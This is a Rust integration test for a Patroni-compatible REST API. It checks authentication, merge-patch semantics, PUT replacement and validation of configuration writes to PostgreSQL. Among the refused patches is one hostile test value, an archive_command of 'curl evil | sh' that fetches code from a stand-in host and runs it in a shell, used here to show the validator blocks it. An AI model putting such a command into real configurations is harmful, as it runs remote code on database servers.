//! `PATCH /config` and `PUT /config` on a real agent, as Patroni's REST API answers them:
//! merge patch (`null` removes), the server-side checks of every client `config` write, the
//! credentials of `restapi.authentication`. Ports 4981 (gRPC), 8181 (PostgreSQL), 10781 (REST).

mod common;

use std::time::Duration;

use common::*;
use pgquorum::ctl::cluster_read::cluster_view;
use serde_json::{json, Value};

const BASE_PORT: u16 = 4981;
const ADMIN: Option<(&str, &str)> = Some(("admin", "demo-admin"));

fn parse(body: &str) -> Value {
    serde_json::from_str(body).unwrap_or_else(|e| panic!("not JSON ({e}): {body}"))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn patch_and_put_config_as_patroni() {
    let dir = TestDir::new();
    let opts = cluster_options(dir.path(), BASE_PORT, true);
    let yaml = solo_agent_yaml(dir.path(), &opts, "restcfg", 0, &[]);
    let endpoint = format!("127.0.0.1:{}", opts.base_port);
    let agent = SoloAgent::start(dir.path(), "node1", &endpoint, &yaml);
    let (rest, pg) = (opts.rest_port(0), opts.pg_port(0));
    wait_for(
        "node1 primary with its configuration stored",
        Duration::from_secs(120),
        || async {
            let view = cluster_view(&endpoint).await.ok()?;
            let primary = pg_scalar(pg, "SELECT pg_is_in_recovery()").await.as_deref() == Some("f");
            let stored = http_status(rest, "GET", "/config", None).await == 200;
            (view.leader_name() == Some("node1") && primary && stored).then_some(())
        },
    )
    .await;

    // Credentials first (restapi.authentication is set), then the body's shape.
    for method in ["PATCH", "PUT"] {
        let (status, _) = http_call(rest, method, "/config", None, r#"{"ttl": 20}"#).await;
        assert_eq!(status, 401, "{method} without credentials");
        let (status, _) = http_call(rest, method, "/config", Some(("admin", "guess")), "{}").await;
        assert_eq!(status, 401, "{method} with a wrong password");
        for bad in ["ttl=20", "[1]", ""] {
            let (status, body) = http_call(rest, method, "/config", ADMIN, bad).await;
            assert_eq!(status, 400, "{method} {bad:?}: {body}");
        }
    }

    // A merge patch: timings and a parameter; the rest of the configuration stays.
    let patch = json!({"ttl": 20, "loop_wait": 5, "postgresql": {"parameters": {"work_mem": "8MB"}}});
    let (status, body) = http_call(rest, "PATCH", "/config", ADMIN, &patch.to_string()).await;
    assert_eq!(status, 200, "{body}");
    let patched = parse(&body);
    assert_eq!(
        (patched["ttl"].clone(), patched["loop_wait"].clone()),
        (json!(20), json!(5))
    );
    assert_eq!(
        patched["postgresql"]["parameters"]["work_mem"], "8MB",
        "{patched}"
    );
    assert_eq!(patched["maximum_lag_on_failover"], 1_048_576, "kept: {patched}");
    // Stored in the keyspace (GET /config answers from it) and acted on by the agent.
    wait_for(
        "GET /config and PostgreSQL to show the patch",
        Duration::from_secs(60),
        || async {
            let (_, body) = http_call(rest, "GET", "/config", None, "").await;
            let stored = parse(&body);
            let applied = pg_scalar(pg, "SHOW work_mem").await.as_deref() == Some("8MB");
            let shown = stored["ttl"].as_f64() == Some(20.0) && stored["loop_wait"].as_f64() == Some(5.0);
            (shown && applied).then_some(())
        },
    )
    .await;

    // `null` removes a key: work_mem goes back to PostgreSQL's default.
    let (status, body) = http_call(
        rest,
        "PATCH",
        "/config",
        ADMIN,
        r#"{"postgresql": {"parameters": {"work_mem": null}}}"#,
    )
    .await;
    assert_eq!(status, 200, "{body}");
    let removed = parse(&body);
    assert!(
        removed["postgresql"]["parameters"].get("work_mem").is_none(),
        "{removed}"
    );
    assert_eq!(removed["ttl"], 20, "{removed}");
    wait_for(
        "work_mem back to its default",
        Duration::from_secs(60),
        || async { (pg_scalar(pg, "SHOW work_mem").await.as_deref() == Some("4MB")).then_some(()) },
    )
    .await;

    // Refused by the checks every client `config` write goes through, with their message;
    // nothing changes.
    let refusals = [
        (
            json!({"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}),
            "postgresql.parameters.archive_command: runs a command",
        ),
        // Patroni's rule passes (loop_wait + 2 × retry_timeout < ttl): the Raft floor refuses.
        (
            json!({"ttl": 1, "loop_wait": 0.2, "retry_timeout": 0.2}),
            "ttl: 1 s is too short for member node1's Raft timings",
        ),
        (json!({"loop_wait": "soon"}), "loop_wait"),
    ];
    for (patch, why) in refusals {
        let (status, body) = http_call(rest, "PATCH", "/config", ADMIN, &patch.to_string()).await;
        assert_eq!(status, 400, "{patch}: {body}");
        assert!(body.contains(why), "{patch}: {body}");
        assert!(body.contains("nothing changed"), "{body}");
    }
    let (status, body) = http_call(rest, "PATCH", "/config", ADMIN, "{}").await;
    assert_eq!(
        (status, parse(&body)),
        (200, removed.clone()),
        "refused patches changed nothing"
    );

    // PUT replaces the whole configuration, checked the same way.
    let mut whole = removed.clone();
    whole["maximum_lag_on_failover"] = json!(2_097_152);
    let (status, body) = http_call(rest, "PUT", "/config", ADMIN, &whole.to_string()).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(parse(&body), whole);
    wait_for(
        "GET /config to show the replacement",
        Duration::from_secs(30),
        || async {
            let (_, body) = http_call(rest, "GET", "/config", None, "").await;
            let stored = parse(&body);
            (stored["maximum_lag_on_failover"] == 2_097_152).then_some(stored)
        },
    )
    .await;
    let mut bad = whole.clone();
    (bad["ttl"], bad["loop_wait"], bad["retry_timeout"]) = (json!(1), json!(0.2), json!(0.2));
    let (status, body) = http_call(rest, "PUT", "/config", ADMIN, &bad.to_string()).await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body.contains("too short for member node1's Raft timings"),
        "{body}"
    );

    agent.stop().await;
}
